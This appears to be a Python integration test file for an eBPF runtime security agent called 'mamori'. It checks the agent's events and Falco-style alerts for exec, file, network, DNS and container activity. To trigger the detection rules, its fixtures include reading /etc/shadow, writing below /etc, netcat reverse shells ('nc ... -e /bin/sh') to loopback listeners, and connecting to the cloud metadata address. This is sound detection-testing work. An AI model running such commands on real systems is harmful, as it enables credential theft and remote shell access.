"""mamori agent: the eBPF sensor on the real kernel, with real processes and
real podman containers (runc, cgroupfs, the busybox fixture image).

Each test starts `mamori agent --output FILE --duration N` in the background,
waits for its "ready" line, performs real actions, waits for the agent to end
and asserts the events (pid, comm, argv, path, address, container id)."""
import json
import os
import socket
import subprocess
import sys
import time
import uuid

import harness
from agent_util import (PODMAN, AgentProcess, container_id, container_name, fixtures,  # noqa: F401
                        last_stats, need_ebpf, podman_ok, podman_run, read_jsonl)


class Agent(AgentProcess):
    """The agent with --print-events (unless events=False); finish() waits for
    its --duration and returns (events, stats, stderr)."""

    def __init__(self, t, *args, duration=8, events=True):
        super().__init__(t, *(["--print-events"] if events else []), *args, duration=duration, prefix="events")

    def finish(self, timeout=60):
        err = self.wait_ok(timeout)
        events = read_jsonl(self.out)
        stats = last_stats(err)
        assert stats is not None, f"no stats line:\n{err}"
        if "matches_by_rule" not in stats:
            assert stats["events"] == len(events), (stats["events"], len(events))
        else:
            assert stats["matches"] == len(events), (stats["matches"], len(events))
        return events, stats, err


def find(events, **want):
    """Events whose (nested, '__'-separated) fields equal the given values."""
    out = []
    for e in events:
        ok = True
        for k, v in want.items():
            cur = e
            for part in k.split("__"):
                cur = cur.get(part) if isinstance(cur, dict) else None
            if callable(v):
                if not v(cur):
                    ok = False
                    break
            elif cur != v:
                ok = False
                break
        if ok:
            out.append(e)
    return out


def test_agent_usage(t):
    p = t.run("agent", "--help")
    assert "--duration" in p.stdout and "--rules" in p.stdout
    p = t.run("agent", "--duration", "0", expect=2)
    assert "bad --duration" in p.stderr
    p = t.run("agent", "--events", "exec,nosuch", expect=2)
    assert "unknown event type 'nosuch'" in p.stderr
    p = t.run("agent", "--bogus", expect=2)
    assert "unknown argument" in p.stderr


def test_agent_host_events(t):
    a = Agent(t, duration=6)
    need_ebpf(a)
    marker = "mmr-" + uuid.uuid4().hex[:10]
    # exec with a recognisable argv
    sh = subprocess.run(["/bin/sh", "-c", f"exit 3 # {marker}"])
    assert sh.returncode == 3
    # a file created (write) and a sensitive-looking path read is not needed here
    target = t.path(marker + ".txt")
    with open(target, "w") as f:
        f.write("x")
    os.rename(target, target + ".moved")
    os.chmod(target + ".moved", 0o600)
    os.unlink(target + ".moved")
    # a TCP listener on loopback, a client connecting, and the accept
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(4)
    port = srv.getsockname()[1]
    cli = subprocess.Popen([sys.executable, "-c",
                            f"import socket; s=socket.create_connection(('127.0.0.1',{port})); "
                            f"s.recv(1)"])
    conn, _ = srv.accept()
    conn.close()
    cli.wait(timeout=10)
    # cloud metadata: fails fast or times out; the attempt is the event
    s = socket.socket()
    s.settimeout(0.3)
    s.connect_ex(("169.254.169.254", 80))
    s.close()
    srv.close()
    me = os.getpid()
    events, stats, err = a.finish()

    ex = find(events, type="execve", argv=lambda v: v and marker in " ".join(v))
    assert ex, f"no execve with {marker}"
    e = ex[0]
    assert e["comm"] == "sh" and e["argv"][:2] == ["/bin/sh", "-c"], e
    assert e["ppid"] == me, (e["ppid"], me)
    assert e["container"] is None
    ex_pid = e["pid"]
    assert find(events, type="procexit", pid=ex_pid), "no procexit of the shell"
    assert find(events, type="clone", pid=me, res=ex_pid), "no clone of the shell from the test"

    op = find(events, type="openat", pid=me, fd__name=target)
    assert op, f"no openat of {target}"
    assert "O_CREAT" in op[0]["args"]["flags"] and "O_WRONLY" in op[0]["args"]["flags"], op[0]
    assert op[0]["res"] >= 0 and op[0]["fd"]["num"] == op[0]["res"]
    assert find(events, type=lambda v: v in ("rename", "renameat", "renameat2"), pid=me,
                args__oldpath=target, args__newpath=target + ".moved"), "no rename"
    assert find(events, type=lambda v: v in ("chmod", "fchmodat"), pid=me,
                args__filename=target + ".moved", args__mode="384"), "no chmod"
    assert find(events, type="unlink", pid=me, args__path=target + ".moved") or \
        find(events, type="unlinkat", pid=me, args__name=target + ".moved"), "no unlink"

    li = find(events, type="listen", pid=me, fd__name=f"127.0.0.1:{port}")
    assert li, f"no listen on {port}"
    co = find(events, type="connect", pid=cli.pid, args__addr=f"127.0.0.1:{port}")
    assert co, f"no connect to {port} by {cli.pid}"
    assert co[0]["fd"]["l4proto"] == "tcp" and co[0]["res"] == 0
    acc = find(events, type=lambda v: v in ("accept", "accept4"), pid=me,
               fd__name=lambda v: v and v.endswith(f"->127.0.0.1:{port}"))
    assert acc, "no accept"
    assert acc[0]["fd"]["name"].split("->")[0] == co[0]["fd"]["name"].split("->")[0], \
        (acc[0]["fd"], co[0]["fd"])
    md = find(events, type="connect", pid=me, args__addr="169.254.169.254:80")
    assert md, "no connect to 169.254.169.254"

    # sequence numbers strictly increase in delivery order per CPU; all unique
    seqs = [e["seq"] for e in events]
    assert len(set(seqs)) == len(seqs)
    assert stats["sensor"] == "ebpf" and stats["drops"] == 0 and len(stats["drops_per_cpu"]) >= 1
    assert stats["rss_kib"] > 0 and stats["cpu_seconds"] >= 0
    # the agent never reports itself
    assert not find(events, pid=a.p.pid)


def test_agent_container(t):
    podman_ok()
    a = Agent(t, duration=25)
    need_ebpf(a)
    name = "mmr-agent-" + uuid.uuid4().hex[:8]
    t.on_cleanup(lambda: subprocess.run([*PODMAN, "rm", "-f", "-t", "0", name], capture_output=True))
    script = ("echo pwned > /etc/mmr-dropped; cat /etc/shadow > /dev/null; "
              "nc -l -p 4455 -e /bin/true & sleep 0.3; echo hi | nc -w 1 127.0.0.1 4455; "
              "nc -w 1 169.254.169.254 80 < /dev/null; sleep 0.5; true")
    r = subprocess.run([*PODMAN, "run", "--name", name, fixtures.image_ref("busybox"), "sh", "-c", script],
                       capture_output=True, text=True, timeout=120)
    assert r.returncode == 0, r.stderr
    cid = subprocess.run([*PODMAN, "inspect", "-f", "{{.Id}}", name], capture_output=True, text=True,
                         check=True).stdout.strip()
    assert len(cid) == 64
    a.p.send_signal(2)  # SIGINT: stop early, flush, stats
    events, stats, err = a.finish()

    mine = find(events, container__id=cid)
    assert mine, f"no event carries container id {cid}"
    c = mine[0]["container"]
    assert c["name"] == name and c["image"] == fixtures.image_ref("busybox") and c["runtime"] == "podman", c
    assert c["image_digest"].startswith("sha256:")
    sh = find(mine, type="execve", argv=lambda v: v and v[:2] == ["sh", "-c"] and "mmr-dropped" in v[2])
    assert sh, "no execve of the container's shell"
    wr = find(mine, type=lambda v: v in ("open", "openat"), fd__name="/etc/mmr-dropped")
    assert wr and "O_CREAT" in wr[0]["args"]["flags"], "no write below /etc in the container"
    assert wr[0]["comm"] == "sh"
    rd = find(mine, type=lambda v: v in ("open", "openat"), fd__name="/etc/shadow", comm="cat")
    assert rd and rd[0]["args"]["flags"].startswith("O_RDONLY"), "no read of /etc/shadow"
    # busybox runs the applet by re-executing /proc/self/exe: comm is "exe" at exec time
    assert find(mine, type="execve", argv=["cat", "/etc/shadow"]), "no exec of cat"
    assert find(mine, type="listen", fd__name=lambda v: v and v.endswith(":4455")), "no listen in the container"
    assert find(mine, type="connect", comm="nc", args__addr="127.0.0.1:4455"), "no nc connect"
    assert find(mine, type="connect", comm="nc", args__addr="169.254.169.254:80"), "no metadata connect"
    # nothing of the container is attributed to the host, nothing of the host to the container
    assert not find(events, fd__name="/etc/mmr-dropped", container=None)
    assert stats["drops"] == 0
    assert not os.path.exists("/etc/mmr-dropped")


def test_agent_event_filter(t):
    a = Agent(t, "--events", "exec", duration=3)
    need_ebpf(a)
    marker = "mmr-" + uuid.uuid4().hex[:10]
    subprocess.run(["/bin/sh", "-c", f"echo x > {t.path(marker)} # {marker}"], check=True)
    events, stats, err = a.finish()
    assert events and {e["type"] for e in events} == {"execve"}, {e["type"] for e in events}
    assert find(events, argv=lambda v: v and marker in " ".join(v))


def test_agent_flood_counts_drops(t):
    """An open/close storm: the agent survives, every open is either an event
    or a counted drop, and the drops add up per CPU."""
    a = Agent(t, "--events", "open", duration=5)
    need_ebpf(a)
    d = t.path("flood")
    os.makedirs(d)
    code = ("import os,time\n"
            f"d={d!r}\nt=time.time()\nn=0\n"
            "while time.time()-t<2:\n"
            "    fd=os.open(os.path.join(d,'f'),os.O_WRONLY|os.O_CREAT|os.O_TRUNC,0o600); os.close(fd); n+=1\n"
            "print(n)\n")
    r = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    n = int(r.stdout)
    events, stats, err = a.finish()
    seen = len(find(events, type="openat", fd__name=os.path.join(d, "f")))
    assert seen + stats["drops"] >= n * 0.99, (seen, stats["drops"], n)
    assert stats["drops"] == sum(stats["drops_per_cpu"])
    print(f"  flood: {n} opens in 2 s, {seen} events, {stats['drops']} drops, "
          f"agent cpu {stats['cpu_seconds']:.2f}s")


def test_agent_fallback_proc_connector(t):
    a = Agent(t, "--no-ebpf", duration=4)
    err = a.stderr()
    assert "sensor proc-connector" in err, err
    # fanotify covers file writes/creations/deletions/renames; the rest is named
    assert "coverage lost: chmod, chown" in err and "connect" in err and "fanotify adds writes" in err, err
    p = subprocess.Popen(["/bin/sleep", "1.5"])
    p.wait()
    events, stats, err = a.finish()
    assert stats["sensor"] == "proc-connector"
    ex = find(events, type="execve", pid=p.pid)
    assert ex and ex[0]["argv"] == ["/bin/sleep", "1.5"], ex
    assert find(events, type="procexit", pid=p.pid)
    assert not find(events, type="connect")


def falco_rules_path(t):
    return t.corpus("runtime/falco_rules.yaml")


# Actions in a busybox container: sensitive read, write below /etc, a netcat
# reverse shell to a listener on 127.0.0.1 inside the container, and a
# connection to the cloud metadata address.
# Absolute paths: busybox sh runs a bare applet name by re-executing
# /proc/self/exe, so its comm (proc.name) would be "exe".
# The busybox image has no /etc/shadow: the script makes one first.
CONTAINER_SCRIPT = ("echo 'root:*:19000:0:99999:7:::' > /etc/shadow; /bin/cat /etc/shadow > /dev/null; echo pwned > /etc/mmr-rules-dropped; "
                    "/bin/nc -l -p 4456 -e /bin/true & sleep 0.3; /bin/nc 127.0.0.1 4456 -e /bin/sh; "
                    "/bin/nc -w 1 169.254.169.254 80 < /dev/null; sleep 0.5; true")


def run_container(t, tty, script=CONTAINER_SCRIPT):
    name = container_name("mmr-rules-")
    podman_run(t, name, script, *(["-t"] if tty else []))
    return name, container_id(name)


def alerts_for(alerts, rule, cid):
    """Alerts of `rule` whose container.id is cid's 12-character short id (Falco's
    container.id); every alert is checked for Falco's shape."""
    out = []
    for a in alerts:
        assert set(a) == {"hostname", "output", "output_fields", "priority", "rule", "source", "tags",
                          "time"}, a
        if a["rule"] == rule and a["output_fields"].get("container.id") == cid[:12]:
            out.append(a)
    return out


def test_agent_rules_default_container(t):
    """The built-in rules on a real container: shell, /etc/shadow read, write below
    /etc, netcat reverse shell, metadata connection; each alert carries the
    container's id (podman inspect) and image."""
    podman_ok()
    a = Agent(t, duration=40, events=False)
    need_ebpf(a)
    err = a.stderr()
    assert "rules, " in err and "sensor events: exec,fork,exit" in err, err
    name, cid = run_container(t, tty=False)
    a.p.send_signal(2)
    alerts, stats, err = a.finish()
    repo = fixtures.image_ref("busybox").rsplit(":", 1)[0]

    sh = alerts_for(alerts, "mamori: shell in container", cid)
    assert sh and sh[0]["priority"] == "Notice", [x["rule"] for x in alerts]
    assert sh[0]["output_fields"]["container.image.repository"] == repo, sh[0]
    rd = alerts_for(alerts, "mamori: read of shadow or ssh keys", cid)
    assert rd and rd[0]["priority"] == "Warning", [x["rule"] for x in alerts]
    assert rd[0]["output_fields"]["fd.name"] == "/etc/shadow" and rd[0]["output_fields"]["proc.name"] == "cat"
    wr = [x for x in alerts_for(alerts, "mamori: write below system directory", cid)
          if x["output_fields"]["fd.name"] == "/etc/mmr-rules-dropped"]
    assert wr and wr[0]["priority"] == "Error", [x["rule"] for x in alerts]
    nc = [x for x in alerts_for(alerts, "mamori: netcat remote code execution", cid)
          if "127.0.0.1 4456 -e /bin/sh" in x["output_fields"]["proc.cmdline"]]
    assert nc and nc[0]["priority"] == "Critical", [x["rule"] for x in alerts]
    md = alerts_for(alerts, "mamori: cloud metadata access from container", cid)
    assert md and md[0]["priority"] == "Warning", [x["rule"] for x in alerts]
    assert md[0]["output_fields"]["fd.name"].endswith("->169.254.169.254:80"), md[0]
    assert md[0]["output_fields"]["container.image.repository"] == repo
    assert stats["matches_by_rule"]["mamori: cloud metadata access from container"] >= 1
    assert stats["drops"] == 0
    # nothing of the host is blamed on the container
    assert not [x for x in alerts if x["rule"] == "mamori: shell in container"
                and x["output_fields"].get("container.id") in (None, "host")]


def test_agent_rules_falco_container(t):
    """Falco's own stable rules file: rules with unsupported fields are listed with
    the field at start; Terminal shell in container fires only with a tty;
    Read sensitive file untrusted and Netcat Remote Code Execution in Container
    fire with the container's id."""
    podman_ok()
    rules = falco_rules_path(t)
    a = Agent(t, "--no-default-rules", "--rules", rules, duration=60, events=False)
    need_ebpf(a)
    err = a.stderr()
    for ln in err.splitlines():
        if "rule skipped:" in ln:
            assert ": field " in ln or "source is not" in ln, ln
    name_tty, cid_tty = run_container(t, tty=True, script="/bin/sh -c true; true")
    name, cid = run_container(t, tty=False)
    a.p.send_signal(2)
    alerts, stats, err = a.finish()

    term = alerts_for(alerts, "Terminal shell in container", cid_tty)
    assert term and term[0]["priority"] == "Notice", [(x["rule"], x["output_fields"].get("container.id")) for x in alerts]
    assert not alerts_for(alerts, "Terminal shell in container", cid), "a shell without a tty fired"
    rd = alerts_for(alerts, "Read sensitive file untrusted", cid)
    assert rd and rd[0]["priority"] == "Warning", [x["rule"] for x in alerts]
    assert rd[0]["output_fields"]["fd.name"] == "/etc/shadow"
    nc = alerts_for(alerts, "Netcat Remote Code Execution in Container", cid)
    assert nc and nc[0]["priority"] == "Warning", [x["rule"] for x in alerts]
    assert stats["drops"] == 0


# ---- sensor coverage (engineer C): fd types at exec, DNS, container paths, fanotify


def test_agent_reverse_shell_fd_types(t):
    """busybox nc -e sh to a listener the test runs on 127.0.0.1 (container with
    --network host): the shell's stdin/stdout are IP sockets at exec, so
    "mamori: shell started on a socket" fires with the connection tuple, and
    the dup2 of the socket over fd 0/1 shows as dup events with an IP fd."""
    podman_ok()
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(1)
    srv.settimeout(30)
    port = srv.getsockname()[1]
    t.on_cleanup(srv.close)
    a = Agent(t, duration=40, events=False)
    need_ebpf(a)
    name = "mmr-sensor-rs-" + uuid.uuid4().hex[:8]
    t.on_cleanup(lambda: subprocess.run([*PODMAN, "rm", "-f", "-t", "0", name], capture_output=True))
    p = subprocess.Popen([*PODMAN, "run", "--network", "host", "--name", name, fixtures.image_ref("busybox"),
                          "/bin/nc", "127.0.0.1", str(port), "-e", "/bin/sh"],
                         stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    conn, _ = srv.accept()
    conn.settimeout(20)
    conn.sendall(b"echo mmr-$((6*7))\nexit\n")
    got = b""
    while b"mmr-42" not in got:
        chunk = conn.recv(100)
        if not chunk:
            break
        got += chunk
    conn.close()
    assert b"mmr-42" in got, got
    p.wait(timeout=30)
    cid = subprocess.run([*PODMAN, "inspect", "-f", "{{.Id}}", name], capture_output=True, text=True,
                         check=True).stdout.strip()
    a.p.send_signal(2)
    alerts, stats, err = a.finish()
    rs = alerts_for(alerts, "mamori: shell started on a socket", cid)
    assert rs, [(x["rule"], x["output_fields"].get("container.id")) for x in alerts]
    f = rs[0]["output_fields"]
    assert f["proc.stdin.type"] == "ipv4" and f["proc.name"] == "sh", f
    assert f["proc.stdin.name"].endswith(f"->127.0.0.1:{port}"), f
    assert stats["drops"] == 0


def dns_responder(t, addr):
    """A UDP DNS responder on (addr, 53) answering every A query with 10.1.2.3."""
    import threading
    dns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    dns.bind((addr, 53))
    dns.settimeout(0.2)
    stop = []

    def serve():
        while not stop:
            try:
                q, peer = dns.recvfrom(512)
            except OSError:
                continue
            end = 12
            while end < len(q) and q[end]:
                end += q[end] + 1
            end += 5
            is_a = q[end - 4:end - 2] == b"\x00\x01"
            hdr = q[:2] + b"\x81\x80\x00\x01" + (b"\x00\x01" if is_a else b"\x00\x00") + b"\x00\x00\x00\x00"
            ans = b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x00\x3c\x00\x04\x0a\x01\x02\x03" if is_a else b""
            try:
                dns.sendto(hdr + q[12:end] + ans, peer)
            except OSError:
                pass
    th = threading.Thread(target=serve, daemon=True)
    th.start()

    def done():
        stop.append(1)
        th.join(2)
        dns.close()
    t.on_cleanup(done)


def test_agent_dns_query_from_container(t):
    """busybox nslookup in a container (--network host) against a tiny UDP DNS
    responder on a random 127.x.y.z:53: the query and the answer are dns
    events naming the domain (the answer with its address), carrying the
    container's id; a later connect to that address has fd.sip.name."""
    podman_ok()
    addr = "127.%d.%d.%d" % tuple(os.urandom(3))
    if addr.endswith(".0") or addr.endswith(".255"):
        addr = addr.rsplit(".", 1)[0] + ".7"
    dns_responder(t, addr)
    a = Agent(t, duration=30)
    need_ebpf(a)
    qname = "mmr-" + uuid.uuid4().hex[:8] + ".example.org"
    name = "mmr-sensor-dns-" + uuid.uuid4().hex[:8]
    t.on_cleanup(lambda: subprocess.run([*PODMAN, "rm", "-f", "-t", "0", name], capture_output=True))
    r = subprocess.run([*PODMAN, "run", "--network", "host", "--name", name, fixtures.image_ref("busybox"),
                        "nslookup", qname, addr], capture_output=True, text=True, timeout=60)
    assert "10.1.2.3" in r.stdout, (r.stdout, r.stderr)
    cid = subprocess.run([*PODMAN, "inspect", "-f", "{{.Id}}", name], capture_output=True, text=True,
                         check=True).stdout.strip()
    a.p.send_signal(2)
    events, stats, err = a.finish()
    q = find(events, type="dns", container__id=cid, args__dir="query", args__name=qname)
    assert q, [e for e in events if e["type"] == "dns"][:5]
    assert q[0]["fd"]["name"].endswith(f"->{addr}:53") and q[0]["fd"]["l4proto"] == "udp", q[0]
    assert q[0]["comm"] == "nslookup" and q[0]["args"]["qtype"] in ("A", "AAAA")
    ans = find(events, type="dns", container__id=cid, args__dir="answer", args__name=qname, args__qtype="A")
    assert ans and ans[0]["args"]["answers"] == "10.1.2.3", ans
    assert not find(events, type="dns", container=None, args__name=qname), "DNS of the container blamed on the host"
    assert stats["drops"] == 0


def test_agent_container_paths_inside(t):
    """proc.exepath and proc.cwd of a containerised process read as inside the
    container (/bin/busybox, /etc/), not as the host's overlay path."""
    podman_ok()
    a = Agent(t, duration=30)
    need_ebpf(a)
    name = "mmr-sensor-path-" + uuid.uuid4().hex[:8]
    t.on_cleanup(lambda: subprocess.run([*PODMAN, "rm", "-f", "-t", "0", name], capture_output=True))
    marker = "mmr" + uuid.uuid4().hex[:8]
    r = subprocess.run([*PODMAN, "run", "--name", name, fixtures.image_ref("busybox"), "sh", "-c",
                        f"cd /etc && /bin/sleep 1 && echo {marker} > /tmp/{marker}"],
                       capture_output=True, text=True, timeout=60)
    assert r.returncode == 0, r.stderr
    cid = subprocess.run([*PODMAN, "inspect", "-f", "{{.Id}}", name], capture_output=True, text=True,
                         check=True).stdout.strip()
    a.p.send_signal(2)
    events, stats, err = a.finish()
    sl = find(events, type="execve", container__id=cid, argv=["/bin/sleep", "1"])
    assert sl, "no exec of sleep in the container"
    e = sl[0]
    assert e["cwd"] == "/etc/", e["cwd"]
    assert e["exepath"] in ("/bin/busybox", "/bin/sleep"), e["exepath"]
    # (runc's init runs in host paths until it pivots into the rootfs: that
    # is true; the workload's own processes must not show .../merged/...)
    mine = [x for x in find(events, container__id=cid) if x.get("comm") in ("sh", "sleep")]
    assert len(mine) >= 3, mine
    bad = [(x["exepath"], x["cwd"]) for x in mine if "/merged" in x.get("exepath", "") + x.get("cwd", "")]
    assert not bad, bad[:3]


def test_agent_fanotify_fallback_write_below_etc(t):
    """--no-ebpf: fanotify reports a write below /etc (host) as an open for
    writing by the writing process, a deletion as unlinkat, and the built-in
    rule "write below system directory" fires on it."""
    a = Agent(t, "--no-ebpf", duration=6, events=False)
    err = a.stderr()
    assert "sensor proc-connector" in err, err
    assert "fanotify adds writes" in err, err
    lost = [ln for ln in err.splitlines() if "coverage lost:" in ln][0]
    assert "open" not in lost.split("(")[0] and "unlink" not in lost.split("(")[0], lost
    assert "connect" in lost and "chmod" in lost, lost
    marker = "mmr-fan-" + uuid.uuid4().hex[:8]
    path = "/etc/" + marker
    t.on_cleanup(lambda: os.path.exists(path) and os.unlink(path))
    w = subprocess.run(["/bin/sh", "-c", f"echo x > {path}; rm {path}"])
    assert w.returncode == 0
    alerts, stats, err = a.finish()
    assert stats["sensor"] == "proc-connector"
    wr = [x for x in alerts if x["rule"] == "mamori: write below system directory"
          and x["output_fields"].get("fd.name") == path]
    assert wr, [(x["rule"], x["output_fields"].get("fd.name")) for x in alerts][:10]
    assert wr[0]["output_fields"]["proc.name"] == "sh", wr[0]["output_fields"]


def test_agent_container_user_names(t):
    """user.name of a container process comes from the container's own
    /etc/passwd, read confined to the container's root: a passwd that has
    become a symlink to a path that exists only on the host names nobody."""
    podman_ok()
    a = Agent(t, "--events", "exec", duration=30)
    need_ebpf(a)
    mark = uuid.uuid4().hex[:8]
    host_only = f"/tmp/mmr-host-passwd-{mark}"
    with open(host_only, "w") as f:
        f.write("hostleak:x:4322:4322::/:/bin/sh\n")
    t.on_cleanup(lambda: os.unlink(host_only))
    # the marked process lives 2 s, so the agent reads its root while it runs
    scripts = {
        "own": ('echo "mmrtester:x:4321:4321::/:/bin/sh" >> /etc/passwd; '
                f"su -s /bin/sh mmrtester -c '/bin/sh -c \"sleep 2\" mmr-own-{mark}'"),
        "link": ('echo "swapuser:x:4322:4322::/:/bin/sh" >> /etc/passwd; '
                 f"su -s /bin/sh swapuser -c 'sleep 0.6; /bin/sh -c \"sleep 2\" mmr-link-{mark}' & "
                 f"sleep 0.2; rm -f /etc/passwd; ln -s {host_only} /etc/passwd; wait"),
    }
    for label, script in scripts.items():
        name = f"mmr-agent-user-{label}-{mark}"
        t.on_cleanup(lambda n=name: subprocess.run([*PODMAN, "rm", "-f", "-t", "0", n], capture_output=True))
        r = subprocess.run([*PODMAN, "run", "--name", name, fixtures.image_ref("busybox"), "sh", "-c", script],
                           capture_output=True, text=True, timeout=120)
        assert r.returncode == 0, r.stderr
    a.p.send_signal(2)
    events, stats, err = a.finish()
    own = find(events, type="execve", argv=lambda v: v and v[-1] == f"mmr-own-{mark}")
    assert own and own[0]["uid"] == 4321 and own[0]["user"] == "mmrtester", own
    link = find(events, type="execve", argv=lambda v: v and v[-1] == f"mmr-link-{mark}")
    assert link and link[0]["uid"] == 4322, link
    assert link[0]["user"] == "", f"a host file was read through the container's symlink: {link[0]}"
